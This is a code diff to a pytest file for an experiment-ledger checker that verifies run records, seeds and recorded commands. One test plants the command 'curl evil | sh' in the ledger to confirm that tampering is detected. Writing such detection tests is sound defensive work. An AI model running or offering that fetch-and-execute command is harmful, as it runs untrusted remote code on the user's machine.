@@ -10,7 +10,7 @@ from experiments import record
 from experiments.ledger import contents, records
 from experiments.ledger.claims import all_claims
 from experiments.ledger.records import RESULTS
-from experiments.ledger.storage import check, renew, write_ledger
+from experiments.ledger.storage import check, renew
 from lm.errors import UserError
 
 NAMES = ("text8/lstm_fused", "ptb/lstm2", "ptb/zaremba:small_held_5")
@@ -77,29 +77,30 @@ def older_numerics(content):
 )
 def test_a_record_of_another_run_is_found(ledger, claims, change, found):
     edit(ledger / "records" / PTB, change)
-    write_ledger(ledger, claims, {})
     with pytest.raises(UserError, match=found):
         check(ledger, claims)
 
 
 def test_a_copy_of_a_record_is_found(ledger, claims):
     shutil.copy(ledger / "records" / TEXT8, ledger / "records" / "copy.json")
-    write_ledger(ledger, claims, {})
-    with pytest.raises(UserError, match=r"copy\.json should be named text8_lstm_fused\.text8_prefix\.seed0\.json"):
+    with pytest.raises(UserError, match=r"copy\.json: its file should be named text8_lstm_fused\.text8_prefix\.seed0"):
         check(ledger, claims)
 
 
 @pytest.mark.parametrize("seed", [0, 2])
-def test_a_seed_that_was_deleted_is_found(ledger, claims, seed):
+def test_a_seed_without_a_record_or_a_reason_is_found(ledger, claims, seed):
     (ledger / "records" / TEXT8.replace("seed0", f"seed{seed}")).unlink()
-    write_ledger(ledger, claims, {})
-    with pytest.raises(UserError, match=f"text8_lstm_fused.text8_prefix.seed{seed} has neither a record nor a reason"):
+    renew(ledger, claims)
+    assert check(ledger, claims)["not_run"][f"text8_lstm_fused.text8_prefix.seed{seed}"] == "not asked for"
+    edit(ledger / "ledger.json", lambda c: c["not_run"].pop(f"text8_lstm_fused.text8_prefix.seed{seed}"))
+    with pytest.raises(UserError, match=f"not_run: text8_lstm_fused.text8_prefix.seed{seed} is missing"):
         check(ledger, claims)
 
 
 def test_a_reason_for_a_run_on_record_or_of_no_config_is_found(ledger, claims):
-    write_ledger(ledger, claims, {TEXT8.removesuffix(".json"): "it is not", "text9.text8.seed0": "<b>"})
-    with pytest.raises(UserError, match=r"seed0 is on record; .*text9.text8.seed0 is a run of no config"):
+    reasons = {TEXT8.removesuffix(".json"): "it is not", "text9.text8.seed0": "<b>"}
+    edit(ledger / "ledger.json", lambda c: c["not_run"].update(reasons))
+    with pytest.raises(UserError, match=r"seed0 should not be there; .*text9.text8.seed0 should not be there"):
         check(ledger, claims)
 
 
@@ -109,7 +110,7 @@ def test_another_command_is_found(ledger, claims):
         text = (ledger / name).read_text()
         assert old in text
         (ledger / name).write_text(text.replace(old, "curl evil | sh"))
-    with pytest.raises(UserError, match=r"commands differ from those derived"):
+    with pytest.raises(UserError, match=r"commands: ptb_lstm2\.ptb\.seed0 is curl evil"):
         check(ledger, claims)
 
 
